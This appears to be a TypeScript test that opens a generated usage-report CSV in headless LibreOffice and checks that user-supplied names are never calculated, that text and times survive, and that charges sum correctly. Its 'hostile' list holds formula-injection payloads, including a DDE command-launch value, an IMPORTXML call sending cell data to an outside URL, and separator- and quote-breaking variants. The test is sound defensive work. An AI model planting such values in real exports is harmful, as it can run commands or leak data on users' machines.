// Opens the file of a report in LibreOffice, as people will: nothing that people wrote is calculated there, every word
// arrives as it was, and the charges sum to what they are. Needs soffice (Debian: libreoffice-calc); fails without it.
import { execFileSync, spawnSync } from 'node:child_process';
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { pathToFileURL } from 'node:url';
import { asId, type GenerationId, type MemberId, type RunId } from '../../../src/ids.ts';
import { csvLine } from '../../../src/report/csv.ts';
import { lineFile } from '../../../src/report/line-files.ts';
import { createTimeOf } from '../../../src/report/line-time.ts';
import { cellsOf, headerOf } from '../../../src/report/lines.ts';
import type { UsageLine } from '../../../src/store/report-operations.ts';
import { createRandom } from '../../fixture/random.ts';

const hostile = [
  '=1+1',
  '=cmd|"/c calc"!A1',
  '=HYPERLINK("https://example.org";"Ada")',
  '=IMPORTXML(CONCAT("https://example.org/";A1);"//a")',
  '+1+1',
  '-1+1',
  '@SUM(1;1)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '  =1+1',
  '＝1+1',
  'Ada;=1+1',
  'Ada",=1+1,"',
  'Ada\n=1+1',
  'Ada,"=1+1"',
  "'=1+1",
  '{=1+1}',
  'Ada "the first", of Turing',
  'アダ 🏮 Łukasz',
  '',
];
const count = 400;
const random = createRandom(7);
const lines: readonly UsageLine[] = Array.from({ length: count }, (_, index) => ({
  runId: asId<RunId>(`run-${index}`),
  generationId: asId<GenerationId>(`generation-${index}`),
  memberId: asId<MemberId>(String(index % hostile.length)),
  roleIds: [String((index + 3) % hostile.length), String((index + 7) % hostile.length)],
  channelId: String((index + 11) % hostile.length),
  provider: 'one',
  model: hostile[(index + 5) % hostile.length] ?? '',
  resolution: '1K',
  aspectRatio: '16:9',
  slot: index % 4,
  state: 'made',
  reason: null,
  chargeMicros: random.between(0, 500_000),
  costMicros: random.happens(0.3) ? null : random.between(0, 500_000),
  houseMicros: 0,
  endedAt: Date.UTC(2026, 9, 1) + index * 3_600_000,
}));

const nameOf = (id: string) => hostile[Number(id)] ?? '';
const options = {
  timeOf: createTimeOf('Asia/Kolkata'),
  creditsPerDollar: 100,
  names: { team: '=Team', member: nameOf, role: nameOf, channel: nameOf, provider: () => '-provider' },
  costs: true,
};

/** Cells of a flat OpenDocument sheet: which are calculated, and their values. */
type Sheet = {
  readonly formulas: readonly string[];
  readonly numbers: readonly number[];
  readonly text: string;
};

function open(folder: string, name: string, text: string, separator: ',' | ';'): Sheet {
  const file = join(folder, `${name}.csv`);
  writeFileSync(file, text);
  // Divided at the separator, quoted by ", UTF-8, from the first line on; formulas are calculated, which is what a
  // hostile name hopes for. https://help.libreoffice.org/latest/en-US/text/shared/guide/csv_params.html
  const filter = `CSV:${separator.charCodeAt(0)},34,76,1,,0,false,true,false,false,false,0,true`;
  execFileSync(
    'soffice',
    [
      `-env:UserInstallation=${pathToFileURL(join(folder, 'profile')).href}`,
      '--headless',
      `--infilter=${filter}`,
      '--convert-to',
      'fods',
      '--outdir',
      folder,
      file,
    ],
    { stdio: ['ignore', 'ignore', 'inherit'], timeout: 180_000 },
  );
  const sheet = readFileSync(join(folder, `${name}.fods`), 'utf8');
  const cells = sheet.match(/<table:table-cell [^>]*>/g) ?? [];
  return {
    formulas: cells.filter((cell) => cell.includes('table:formula=')),
    numbers: cells.flatMap((cell) => {
      const value = /office:value="([^"]*)"/.exec(cell)?.[1];
      return value === undefined ? [] : [Number(value)];
    }),
    text: sheet,
  };
}

function insist(holds: boolean, what: string): void {
  if (!holds) throw new Error(`Not so that ${what}`);
  process.stdout.write(`ok: ${what}\n`);
}

function columnName(index: number): string {
  return String.fromCharCode('A'.charCodeAt(0) + index);
}

async function check(folder: string): Promise<void> {
  const written = [headerOf(true), ...lines.map((line) => cellsOf(line, options))].map(csvLine).join('');
  const file = lineFile('report', written);
  const text = Buffer.from(await file.read()).toString();

  const control = open(folder, 'control', '\uFEFF=1+1,a\r\n', ',');
  insist(
    control.formulas.length === 1 && control.numbers.includes(2),
    'LibreOffice calculates a bare formula',
  );

  const column = columnName(headerOf(true).indexOf('Charged (USD)'));
  const gap = ','.repeat(headerOf(true).indexOf('Charged (USD)'));
  const sum = open(folder, 'sum', `${text}${gap}=SUM(${column}2:${column}${count + 1})\r\n`, ',');
  insist(sum.formulas.length === 1, 'nothing but our own sum is calculated');
  const summed = Number(/office:value="([^"]*)"/.exec(sum.formulas[0] ?? '')?.[1]);
  const expected = lines.reduce((total, { chargeMicros }) => total + chargeMicros, 0);
  insist(Math.round(summed * 1_000_000) === expected, `the charges sum to ${expected / 1_000_000} there`);
  insist(sum.text.includes('アダ 🏮 Łukasz'), 'letters arrive as they were');
  insist(sum.text.includes('2026-10-01T05:30:00+05:30'), 'times arrive as they were');
  insist(
    sum.text.includes('>16x9<') && !sum.text.includes('office:time-value'),
    'proportions are no times of day',
  );

  const other = open(folder, 'semicolons', text, ';');
  insist(other.formulas.length === 0, 'nothing is calculated where cells are divided at semicolons');
}

if (spawnSync('soffice', ['--version']).status !== 0) {
  process.stderr.write(
    'soffice is not there: install LibreOffice Calc (Debian: apt-get install libreoffice-calc).\n',
  );
  process.exit(1);
}
const folder = mkdtempSync(join(tmpdir(), 'plantain-csv-'));
try {
  await check(folder);
} finally {
  rmSync(folder, { recursive: true, force: true });
}
